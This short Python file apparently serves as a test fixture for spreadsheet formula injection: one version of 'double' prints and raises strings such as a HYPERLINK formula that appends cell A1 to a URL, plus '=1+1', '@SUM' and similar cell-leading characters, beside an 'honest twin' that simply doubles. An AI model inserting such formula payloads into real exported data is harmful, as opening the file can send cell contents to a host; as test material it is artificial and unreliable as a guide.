"""Prints, and raises, what a spreadsheet takes for a formula at the start of a cell.

naive: fooled
here: 1.5
"""


def double(x):
    print('ok\n=HYPERLINK("http://127.0.0.1/?"&A1,"see")')
    raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1)\n=1+1\n@SUM(1)\n+1\n-1')


def half(x):
    return x / 2


# --- honest twin


def double(x):
    print("2x", "=", 2 * x)
    return 2 * x


def half(x):
    return x / 2
